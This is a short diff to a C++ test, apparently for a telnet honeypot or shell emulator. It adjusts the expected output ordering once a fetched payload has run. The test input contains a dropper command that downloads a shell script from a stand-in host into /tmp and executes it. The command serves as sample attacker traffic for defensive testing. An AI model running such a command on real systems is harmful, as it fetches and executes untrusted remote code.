@@ -238,10 +238,12 @@ TEST_F(TelnetWaitTest, WgetReturnsWithTheFetchedFileAndTypedAheadLinesRunAfter) 
         client.send("cd /tmp; wget http://192.0.2.9/x.sh -O x.sh; sh x.sh\r\necho typed-ahead\r\n");
         std::this_thread::sleep_for(std::chrono::milliseconds(200)); // the line waits for its fetch
         asio::post(io_, [this] { EXPECT_EQ(collector_.completeFetches(), 1u); });
-        const std::string out = client.readUntil("typed-ahead\r\n");
+        // The echo of the typed-ahead line comes at once; its output ("# " then "typed-ahead") only
+        // after the waiting line has run.
+        const std::string out = client.readUntil("# typed-ahead\r\n");
         const size_t ran = out.find("fetched-and-run\r\n");
         ASSERT_NE(ran, std::string::npos) << out; // `sh x.sh` right after wget ran the fetched bytes
-        EXPECT_LT(ran, out.rfind("typed-ahead\r\n")) << out;
+        EXPECT_LT(ran, out.rfind("# typed-ahead\r\n")) << out;
         client.send("exit\r\n");
         client.readUntil("never");
     }
